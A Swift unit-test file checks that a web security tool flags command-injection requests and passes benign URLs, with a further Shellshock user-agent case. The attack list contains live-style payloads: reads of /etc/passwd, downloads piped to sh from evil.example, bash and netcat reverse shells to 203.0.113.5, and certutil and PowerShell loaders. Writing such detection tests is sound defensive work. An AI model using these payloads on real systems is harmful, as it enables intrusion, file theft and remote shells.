import DSToolKit
import XCTest
@testable import DSToolTrace

final class CommandInjectionTests: XCTestCase {
    func testAttacks() {
        WebTest.check(CommandInjection.rule.id, attacks: [
            "/ping.php?host=127.0.0.1;id",
            "/ping.php?host=127.0.0.1%3Bcat%20/etc/passwd",
            "/ping.php?host=127.0.0.1|whoami",
            "/ping.php?host=127.0.0.1%26%26uname%20-a",
            "/ping.php?host=%60id%60",
            "/ping.php?host=$(whoami)",
            "/ping.php?host=x%0Aid",
            "/p?cmd=wget%20http://evil.example/x.sh%20-O%20/tmp/x.sh",
            "/p?cmd=curl%20-s%20http://evil.example/x|sh",
            "/p?c=bash%20-i%20%3E%26%20/dev/tcp/203.0.113.5/4444%200%3E%261",
            "/p?c=nc%20-e%20/bin/sh%20203.0.113.5%204444",
            "/p?c=;cat${IFS}/etc/passwd",
            "/cgi-bin/test.cgi?x=;/bin/sh%20-c%20id",
            "/p?c=powershell%20-enc%20SQBFAFgA",
            "/p?c=certutil%20-urlcache%20-f%20http://x/a.exe",
        ], benign: [
            "/api/items;id=3",
            "/search?q=cats+%26+dogs",
            "/page?a=1&id=5&sort=name",
            "/search?q=tom+and+jerry",
            "/docs/bash-scripting",
            "/search?q=how+to+use+curl",
            "/app;jsessionid=ABC123?x=1",
            "/search?q=rock|pop",
        ])
    }

    func testShellshockInAgent() {
        XCTAssertNotNil(WebTest.detect("GET /cgi-bin/status HTTP/1.1", agent: "() { :; }; /bin/bash -c 'curl http://x/y'")[CommandInjection.rule.id])
    }
}
